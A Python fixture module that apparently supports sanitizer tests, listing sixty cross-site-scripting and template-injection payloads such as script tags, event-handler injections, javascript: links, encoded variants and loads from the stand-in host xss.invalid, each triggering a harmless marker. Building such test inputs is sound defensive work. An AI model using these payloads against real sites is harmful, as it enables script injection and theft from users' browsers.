"""Sixty strings that would run, draw or fetch something if any page took them for HTML, Markdown or a template."""

from __future__ import annotations

HIT = "window.hit=1"
SRC = "http://xss.invalid/x"
WORDS: tuple[str, ...] = (
    f"<script>{HIT}</script>", f"<script src={SRC}.js></script>", f"</script><script>{HIT}</script>", f"<ScRiPt>{HIT}</sCrIpT>",
    f"<img src=x onerror={HIT} data-xss>", f"<img src={SRC}.png data-xss>", f"\"><img src=x onerror={HIT} data-xss>",
    f"'><img src=x onerror={HIT} data-xss>", f"<svg onload={HIT} data-xss>", f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x data-xss>", f"<body onload={HIT}>", f"<iframe src={SRC} data-xss></iframe>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>' data-xss>", f"<iframe src=javascript:parent.{HIT} data-xss>",
    f"<a href=javascript:{HIT} data-xss>press</a>", f"[press](javascript:{HIT})", f"![x]({SRC}.png)", f"[x]: {SRC}\n![x][x]",
    f"<details open ontoggle={HIT} data-xss>", f"<input autofocus onfocus={HIT} data-xss>", f"<video src={SRC}.mp4 onerror={HIT} data-xss>",
    f"<audio src={SRC}.mp3 onerror={HIT} data-xss>", f"<object data={SRC} data-xss>", f"<embed src={SRC} data-xss>",
    f"<link rel=stylesheet href={SRC}.css data-xss>", f"<style>@import '{SRC}.css';</style>", f"<style>body{{background:url({SRC})}}</style>",
    f"<base href={SRC} data-xss>", f"<meta http-equiv=refresh content='0;url={SRC}' data-xss>", f"<form action={SRC} data-xss><button>",
    f"<marquee onstart={HIT} data-xss>", f"<select autofocus onfocus={HIT} data-xss>", f"<textarea autofocus onfocus={HIT} data-xss>",
    f"</textarea><img src=x onerror={HIT} data-xss>", f"</title><img src=x onerror={HIT} data-xss>", f"<!--><img src=x onerror={HIT} data-xss>",
    f"<![CDATA[><img src=x onerror={HIT} data-xss>]]>", f"<math><mtext><img src=x onerror={HIT} data-xss>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT} data-xss>'>", f"<xss onmouseover={HIT} data-xss>here</xss>",
    f"<div style='background:url({SRC})' data-xss>", f"<div onclick={HIT} data-xss>press</div>", f"&lt;img src=x onerror={HIT} data-xss&gt;",
    f"&#60;img src=x onerror={HIT} data-xss&#62;", f"\\u003cimg src=x onerror={HIT} data-xss\\u003e", f"%3Cimg src=x onerror={HIT}%3E",
    f"\uff1cimg src=x onerror={HIT} data-xss\uff1e", f"<img/src=x/onerror={HIT}/data-xss>", f"<img src=x\tonerror={HIT}\tdata-xss>",
    f"<<img src=x onerror={HIT} data-xss>>", f"<img src='x' onerror='{HIT}' data-xss", f"`<img src=x onerror={HIT} data-xss>`",
    f"$\\href{{javascript:{HIT}}}{{x}}$", f"$$\\includegraphics{{{SRC}.png}}$$", f":material/x: <img src=x onerror={HIT} data-xss>",
    f"{{{{constructor.constructor('{HIT}')()}}}}", f"${{{HIT}}}", f"javascript:{HIT}//", f"data:text/html,<script>{HIT}</script>")
assert len(WORDS) == len(set(WORDS)) == 60
